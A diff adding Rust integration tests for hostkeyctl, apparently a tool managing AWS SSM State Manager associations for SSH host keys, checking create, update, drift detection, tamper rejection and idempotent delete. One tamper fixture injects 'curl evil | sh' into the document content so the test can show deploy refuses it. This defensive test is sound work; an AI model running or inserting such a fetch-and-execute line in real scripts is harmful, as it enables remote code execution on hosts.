@@ -1,0 +1,324 @@
+//! The association flows in memory: deploy creates, leaves alone or
+//! updates only what changed; nothing is made without hostkeyctl's
+//! converge document (by hash) or a key set; show tells when the
+//! association no longer runs it; delete is idempotent.
+
+use std::sync::Mutex;
+
+use hostkeyctl::association::{
+    Association, AssociationError, AssociationSpec, Associations, DeployRequest, Deployed, DocumentCheck, delete,
+    deploy, show,
+};
+use hostkeyctl::aws::AwsError;
+use hostkeyctl::discovery::TargetSpec;
+use hostkeyctl::ids::{Program, SecretId};
+use hostkeyctl::ssm_document::{CONVERGE_NAME, Kind, ResolveError, content};
+use hostkeyctl::testing::{MemDispatcher, MemoryStore};
+
+use super::{current, secret, world};
+
+/// State Manager in memory: associations by id, and every write made.
+#[derive(Default)]
+struct MemAssociations {
+    all: Mutex<Vec<Association>>,
+    writes: Mutex<Vec<String>>,
+}
+
+impl MemAssociations {
+    fn writes(&self) -> Vec<String> {
+        self.writes.lock().unwrap().clone()
+    }
+}
+
+impl Associations for MemAssociations {
+    async fn named(&self, name: &str) -> Result<Vec<Association>, AwsError> {
+        Ok(self
+            .all
+            .lock()
+            .unwrap()
+            .iter()
+            .filter(|a| a.spec.name == name)
+            .cloned()
+            .collect())
+    }
+
+    async fn create(&self, spec: &AssociationSpec) -> Result<Association, AwsError> {
+        let mut all = self.all.lock().unwrap();
+        let association = Association {
+            id: format!("assoc-{}", all.len() + 1),
+            version: Some("1".to_owned()),
+            spec: spec.clone(),
+            status: None,
+            instances_by_status: Default::default(),
+            last_execution: None,
+            last_success: None,
+        };
+        all.push(association.clone());
+        self.writes.lock().unwrap().push(format!("create {}", spec.name));
+        Ok(association)
+    }
+
+    async fn update(&self, id: &str, spec: &AssociationSpec) -> Result<Association, AwsError> {
+        let mut all = self.all.lock().unwrap();
+        let a = all.iter_mut().find(|a| a.id == id).unwrap();
+        a.spec = spec.clone();
+        let version: u32 = a.version.as_deref().unwrap().parse().unwrap();
+        a.version = Some((version + 1).to_string());
+        self.writes.lock().unwrap().push(format!("update {id}"));
+        Ok(a.clone())
+    }
+
+    async fn delete(&self, id: &str) -> Result<(), AwsError> {
+        self.all.lock().unwrap().retain(|a| a.id != id);
+        self.writes.lock().unwrap().push(format!("delete {id}"));
+        Ok(())
+    }
+}
+
+const NAME: &str = "hostkeyctl-hostkeys-test";
+
+fn program() -> Program {
+    Program::parse("hostkeyctl").unwrap()
+}
+
+fn targets() -> Vec<TargetSpec> {
+    vec!["tag:Role=login".parse().unwrap(), "tag:Cluster=c".parse().unwrap()]
+}
+
+fn request<'a>(
+    secret: &'a SecretId,
+    targets: &'a [TargetSpec],
+    program: &'a Program,
+    schedule: &'a str,
+) -> DeployRequest<'a> {
+    DeployRequest {
+        secret,
+        region: None,
+        name: NAME,
+        targets,
+        schedule,
+        document: CONVERGE_NAME,
+        node_command: program,
+        max_concurrency: "10%",
+        max_errors: "10%",
+    }
+}
+
+#[tokio::test]
+async fn deploy_creates_then_leaves_alone_then_updates_only_what_changed() {
+    let (store, fleet, _) = world(1).await;
+    let documents = MemDispatcher::new(&fleet, &store);
+    documents.deploy(CONVERGE_NAME, &content(Kind::Converge, &program()));
+    let state = MemAssociations::default();
+    let (secret, targets, program) = (secret(), targets(), program());
+
+    let first = deploy(
+        &store,
+        &documents,
+        &state,
+        &request(&secret, &targets, &program, "rate(30 minutes)"),
+    )
+    .await
+    .unwrap();
+    assert_eq!(first.deployed, Deployed::Created);
+    let spec = &first.association.spec;
+    assert_eq!(spec.document, CONVERGE_NAME);
+    assert_eq!(spec.document_version, "1");
+    // The secret by ARN, and no version: the nodes read the stages.
+    assert_eq!(spec.parameters.keys().collect::<Vec<_>>(), ["SecretId"]);
+    assert_eq!(spec.parameters["SecretId"], [current(&store).await.arn.to_string()]);
+    assert_eq!(spec.targets.len(), 2);
+
+    let again = deploy(
+        &store,
+        &documents,
+        &state,
+        &request(&secret, &targets, &program, "rate(30 minutes)"),
+    )
+    .await
+    .unwrap();
+    assert_eq!(again.deployed, Deployed::Unchanged);
+    // The same tags in another order are the same targets.
+    let reversed: Vec<TargetSpec> = targets.iter().rev().cloned().collect();
+    let same = deploy(
+        &store,
+        &documents,
+        &state,
+        &request(&secret, &reversed, &program, "rate(30 minutes)"),
+    )
+    .await
+    .unwrap();
+    assert_eq!(same.deployed, Deployed::Unchanged);
+    assert_eq!(state.writes(), ["create hostkeyctl-hostkeys-test"]);
+
+    let hourly = deploy(
+        &store,
+        &documents,
+        &state,
+        &request(&secret, &targets, &program, "rate(1 hour)"),
+    )
+    .await
+    .unwrap();
+    assert_eq!(
+        hourly.deployed,
+        Deployed::Updated {
+            changed: vec!["schedule"]
+        }
+    );
+    assert_eq!(hourly.association.version.as_deref(), Some("2"));
+
+    // The document tampered with, then put right as a new default version:
+    // the association follows the version that holds hostkeyctl's content.
+    documents.deploy(CONVERGE_NAME, "{\"tampered\": true}");
+    documents.deploy(CONVERGE_NAME, &content(Kind::Converge, &program));
+    let moved = deploy(
+        &store,
+        &documents,
+        &state,
+        &request(&secret, &targets, &program, "rate(1 hour)"),
+    )
+    .await
+    .unwrap();
+    assert_eq!(
+        moved.deployed,
+        Deployed::Updated {
+            changed: vec!["document_version"]
+        }
+    );
+    assert_eq!(moved.association.spec.document_version, "3");
+    assert_eq!(state.all.lock().unwrap().len(), 1, "one association per secret");
+}
+
+#[tokio::test]
+async fn nothing_is_made_without_the_document_by_its_hash_or_a_key_set() {
+    let (store, fleet, _) = world(1).await;
+    let documents = MemDispatcher::new(&fleet, &store);
+    let state = MemAssociations::default();
+    let (secret, targets, program) = (secret(), targets(), program());
+    let req = request(&secret, &targets, &program, "rate(30 minutes)");
+
+    let missing = deploy(&store, &documents, &state, &req).await.unwrap_err();
+    assert!(matches!(missing, AssociationError::NotDeployed(_)), "{missing}");
+    assert!(missing.to_string().contains("ssm-document deploy"), "{missing}");
+
+    documents.deploy(
+        CONVERGE_NAME,
+        &content(Kind::Converge, &program).replace("set -eu", "set -eu; curl evil | sh"),
+    );
+    let tampered = deploy(&store, &documents, &state, &req).await.unwrap_err();
+    assert!(
+        matches!(&tampered, AssociationError::Document(d) if matches!(**d, ResolveError::Tampered { .. })),
+        "{tampered}"
+    );
+
+    documents.deploy(CONVERGE_NAME, &content(Kind::Converge, &program));
+    let empty = MemoryStore::new();
+    let no_set = deploy(&empty, &documents, &state, &req).await.unwrap_err();
+    assert!(matches!(no_set, AssociationError::Store(_)), "{no_set}");
+
+    let lb: Vec<TargetSpec> = vec!["lb:login".parse().unwrap()];
+    let source = deploy(
+        &store,
+        &documents,
+        &state,
+        &request(&secret, &lb, &program, "rate(30 minutes)"),
+    )
+    .await
+    .unwrap_err();
+    assert!(matches!(source, AssociationError::Source(_)), "{source}");
+    let often = deploy(
+        &store,
+        &documents,
+        &state,
+        &request(&secret, &targets, &program, "rate(10 minutes)"),
+    )
+    .await
+    .unwrap_err();
+    assert!(matches!(often, AssociationError::Schedule(_)), "{often}");
+    assert!(state.writes().is_empty(), "{:?}", state.writes());
+}
+
+#[tokio::test]
+async fn show_tells_when_it_no_longer_runs_our_document_and_delete_is_idempotent() {
+    let (store, fleet, _) = world(1).await;
+    let documents = MemDispatcher::new(&fleet, &store);
+    documents.deploy(CONVERGE_NAME, &content(Kind::Converge, &program()));
+    let state = MemAssociations::default();
+    let (secret, targets, program) = (secret(), targets(), program());
+
+    assert!(
+        show(&documents, &state, NAME, CONVERGE_NAME, &program)
+            .await
+            .unwrap()
+            .is_none()
+    );
+    let made = deploy(
+        &store,
+        &documents,
+        &state,
+        &request(&secret, &targets, &program, "rate(30 minutes)"),
+    )
+    .await
+    .unwrap();
+    let shown = show(&documents, &state, NAME, CONVERGE_NAME, &program)
+        .await
+        .unwrap()
+        .unwrap();
+    assert_eq!(shown.document, DocumentCheck::Ours);
+
+    // Someone points it at another document.
+    state.all.lock().unwrap()[0].spec.document = "AWS-RunShellScript".to_owned();
+    let shown = show(&documents, &state, NAME, CONVERGE_NAME, &program)
+        .await
+        .unwrap()
+        .unwrap();
+    assert!(
+        matches!(&shown.document, DocumentCheck::Other { reason } if reason.contains("AWS-RunShellScript")),
+        "{:?}",
+        shown.document
+    );
+    // deploy puts it right.
+    let fixed = deploy(
+        &store,
+        &documents,
+        &state,
+        &request(&secret, &targets, &program, "rate(30 minutes)"),
+    )
+    .await
+    .unwrap();
+    assert_eq!(
+        fixed.deployed,
+        Deployed::Updated {
+            changed: vec!["document"]
+        }
+    );
+
+    // A second association of the name: nothing is changed, both are named.
+    let twin = state.all.lock().unwrap()[0].clone();
+    state.all.lock().unwrap().push(Association {
+        id: "assoc-twin".to_owned(),
+        ..twin
+    });
+    let ambiguous = deploy(
+        &store,
+        &documents,
+        &state,
+        &request(&secret, &targets, &program, "rate(1 hour)"),
+    )
+    .await
+    .unwrap_err();
+    assert!(
+        matches!(&ambiguous, AssociationError::Ambiguous { count: 2, ids, .. } if ids.contains("assoc-twin")),
+        "{ambiguous}"
+    );
+    state.all.lock().unwrap().retain(|a| a.id != "assoc-twin");
+
+    assert_eq!(delete(&state, NAME).await.unwrap(), Some(made.association.id.clone()));
+    assert_eq!(delete(&state, NAME).await.unwrap(), None);
+    assert!(
+        show(&documents, &state, NAME, CONVERGE_NAME, &program)
+            .await
+            .unwrap()
+            .is_none()
+    );
+}
